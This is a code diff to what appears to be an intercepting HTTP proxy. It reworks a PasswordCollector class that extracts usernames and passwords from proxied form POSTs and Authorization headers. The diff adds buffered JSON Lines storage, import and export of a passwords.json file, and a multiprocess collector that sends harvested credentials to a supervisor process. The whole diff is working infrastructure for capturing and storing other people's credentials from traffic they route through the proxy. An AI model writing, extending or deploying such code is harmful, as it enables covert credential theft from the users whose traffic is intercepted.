@@ -1,10 +1,11 @@
 import json
 import logging
+import os
 from urllib.parse import unquote
 from base64 import b64decode
 from typing import Optional
 
-from common.filemanager import FileManager
+from common.jsonlines import JSONLinesSink
 from proxy.httpparser import HTTPRequest
 
 
@@ -42,25 +43,42 @@ class UserData:
 
 
 class PasswordCollector:
+    """
+    Extracts credentials from requests and appends new ones
+    to a JSON Lines file. The file is written by a background thread,
+    so handling of a request never waits for the disk.
+    """
     _form_urlencoded = 'application/x-www-form-urlencoded'
     _logger = logging.getLogger('passwordCollector')
 
     def __init__(self, dirname: str = './passwords',
-                 file: str = 'passwords.json'):
-        self._file = FileManager(file=file, dirname=dirname)
+                 file: str = 'passwords.jsonl',
+                 legacy_file: str = 'passwords.json',
+                 **sink_options):
+        """
+        :param legacy_file: JSON array of credentials written by
+                            old versions, imported if the file is new
+        :param sink_options: keyword arguments of JSONLinesSink
+        """
+        self._dirname = dirname
+        self._sink = JSONLinesSink(os.path.join(dirname, file),
+                                   **sink_options)
         self._users: set[UserData] = set()
-        try:
-            self._load()
-        except json.decoder.JSONDecodeError:
-            self._logger.warning(
-                f'Ошибка при чтении файла {self._file.filename}')
-        if len(self._users) == 0:
-            self.dump()
+        self._load()
+        if not self._users:
+            self._import_legacy(os.path.join(dirname, legacy_file))
+
+    def needs_content(self, request: HTTPRequest) -> bool:
+        """
+        :return: True if the request content must be read
+                 before it is passed to add_userdata
+        """
+        return request.method == 'POST' \
+            and request.headers.get('content-type') == self._form_urlencoded
 
     def _extract_userdata(self, client,
                           data: HTTPRequest) -> Optional[UserData]:
-        if data.method == 'POST' and 'content-type' in data.headers \
-                and data.headers['content-type'] == self._form_urlencoded:
+        if self.needs_content(data):
             return self._url_form(client=client, request=data)
         if 'authorization' in data.headers:
             return self._auth_header(value=data.headers['authorization'],
@@ -97,41 +115,84 @@ class PasswordCollector:
     def add_userdata(self, addr, data: HTTPRequest):
         user = self._extract_userdata(addr, data)
         if user:
-            self._users.add(user)
-            self.append_to_json(user.to_dict())
+            self.add_user(user)
+
+    def add_user(self, user: UserData):
+        if user in self._users:
+            return
+        self._users.add(user)
+        self._sink.put(user.to_dict())
 
     def _load(self):
-        self._file.check_exist()
-        with open(self._file.filename) as f:
-            data = json.load(f)
-        self._users = set()
+        for record in self._sink.read():
+            self._users.add(UserData(record))
+
+    def _import_legacy(self, filename: str):
+        try:
+            with open(filename) as f:
+                data = json.load(f)
+        except FileNotFoundError:
+            return
+        except json.decoder.JSONDecodeError:
+            self._logger.warning(f'Ошибка при чтении файла {filename}')
+            return
         for userdata in data:
-            self._users.add(UserData(userdata))
+            self.add_user(UserData(userdata))
+        self._logger.info(
+            f'{len(self._users)} users imported from {filename}')
+
+    def export_json(self, filename: Optional[str] = None) -> str:
+        """
+        Writes collected credentials as the JSON array
+        of passwords.json used by old versions.
+        Unlike add_user it blocks on the disk.
+        :param filename: passwords.json in the directory if None
+        :return: name of the written file
+        """
+        filename = filename or os.path.join(self._dirname, 'passwords.json')
+        # Queued credentials are written first.
+        self._sink.close()
+        users = list(dict.fromkeys(UserData(record)
+                                   for record in self._sink.read()))
+        with open(f'{filename}.tmp', 'w') as f:
+            json.dump([user.to_dict() for user in users], f)
+        os.replace(f'{filename}.tmp', filename)
+        return filename
+
+    def stats(self) -> dict[str, int]:
+        return self._sink.stats()
+
+    def close(self):
+        """
+        Waits until the queued credentials are written.
+        """
+        self._sink.close()
 
-    def dump(self):
-        self._file.check_exist()
-        with open(self._file.filename, 'w') as f:
-            data = list()
-            for user in self._users:
-                data.append(user.to_dict())
-            f.write(json.dumps(data))
 
-    def append_to_json(self, data):
+class SharedPasswordCollector(PasswordCollector):
+    """
+    Collector of a worker process. Credentials are put to the queue
+    read by the supervisor, the only process writing the file.
+    Credentials the worker has already sent are not sent again.
+    """
+
+    def __init__(self, queue):
         """
-        :param data: dict to append
+        :param queue: multiprocessing queue of UserData dicts
         """
-        new_ending = json.dumps(data) + ']\n'
-        if len(self._users) > 1:
-            new_ending = f', {new_ending}'
-        self._file.check_exist()
-        with open(self._file.filename, 'r+') as f:
-            f.seek(0, 2)
-            index = f.tell()
-            while not f.read().startswith(']'):
-                index -= 1
-                if index == 0:
-                    raise ValueError(
-                        f'Can\'t find JSON object in {self._file.filename}')
-                f.seek(index)
-            f.seek(index)
-            f.write(new_ending)
+        self._queue = queue
+        self._users: set[UserData] = set()
+        self.sent = 0
+
+    def add_user(self, user: UserData):
+        if user in self._users:
+            return
+        self._users.add(user)
+        self._queue.put(user.to_dict())
+        self.sent += 1
+
+    def stats(self) -> dict[str, int]:
+        return {'sent': self.sent}
+
+    def close(self):
+        pass